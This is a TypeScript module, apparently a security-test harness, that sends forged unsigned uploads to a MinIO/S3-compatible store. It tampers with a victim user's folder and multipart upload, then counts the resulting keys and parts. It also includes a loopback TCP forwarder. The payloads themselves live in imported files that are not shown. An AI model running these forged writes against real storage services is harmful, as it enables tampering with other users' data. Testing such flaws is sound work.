import { once } from 'node:events'
import { connect, createServer, type Server } from 'node:net'
import type { Client } from 'minio'
import { type StoreKeys, signStoreRequest } from './sign-store-request.ts'
import { sendAll, unsignedWrites } from './unsigned-writes.ts'

export interface AttackResult {
  answers: { name: string; status: number; code: string }[]
  /** Keys in the bucket after the attack. */
  keys: string[]
  /** Parts of the attacked multipart upload. */
  parts: number
}

/** The uploads that upstream accepts. */
export const ACCEPTED_UPSTREAM = [
  'PUT, chunked, credentials in the query',
  'part, chunked, credentials in the query',
  'extract, raw, credentials in the query',
  'extract, raw, credentials in the header',
]

/** Sends all forged uploads to `endpoint`. `client` reads the result. */
export async function attackStore(keys: StoreKeys, client: Client, bucket: string, endpoint = keys.endpoint): Promise<AttackResult> {
  const uploadId = await client.initiateNewMultipartUpload(bucket, 'users/victim/part', {})
  const target = { bucket, accessKey: keys.accessKey, folder: 'users/victim', uploadId }
  const answers = await sendAll(endpoint, unsignedWrites(target))
  const query = `uploadId=${encodeURIComponent(uploadId)}`
  const { url, headers } = signStoreRequest(keys, 'GET', `/${bucket}/users/victim/part?${query}`, 'UNSIGNED-PAYLOAD')
  const parts = (await (await fetch(url, { headers })).text()).match(/<PartNumber>/g)?.length ?? 0
  return { answers, keys: await listKeys(client, bucket), parts }
}

/** All keys of a bucket, in order. */
export const listKeys = async (client: Client, bucket: string): Promise<string[]> =>
  (await client.listObjectsV2(bucket, '', true).toArray()).map(({ name }) => name ?? '').sort()

/** Forwards connections to `address` to a port on loopback, like a Service of type LoadBalancer. */
export async function forward(address: string, port: number): Promise<Server> {
  const server = createServer((client) => {
    const store = connect(port, '127.0.0.1')
    client.pipe(store).pipe(client)
    client.on('error', () => store.destroy())
    store.on('error', () => client.destroy())
  })
  await once(server.listen(port, address), 'listening')
  return server
}
